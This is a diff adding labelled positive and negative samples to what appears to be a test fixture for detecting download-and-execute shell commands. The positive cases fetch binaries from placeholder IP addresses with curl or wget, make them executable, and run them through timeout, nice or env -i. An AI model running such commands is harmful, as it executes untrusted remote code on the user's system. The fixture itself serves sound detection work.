@@ -284,3 +284,15 @@ tar -tzf ./backup/data.tar.gz
 #@ neg a download whose URL ends with the name of a later command
 curl -fsS -X POST -d '{"ping":1}' "http://127.0.0.1:$port/api/echo"
 echo
+#@ pos a download run through timeout
+curl -fsSL https://203.0.113.99/a -o "$a"
+chmod +x "$a"
+timeout 300 "$a" --register
+#@ pos a download run through nice
+wget -qO ./.cache/b https://203.0.113.100/b && chmod 755 ./.cache/b && nice -n 19 ./.cache/b
+#@ pos a download run through env -i
+curl -so "$b" https://203.0.113.101/i
+env -i PATH=/usr/bin "$b" --prefix /opt
+#@ neg a download read by a program run through timeout
+curl -fsS https://api.example.com/v1/items -o items.json
+timeout 10 jq length items.json
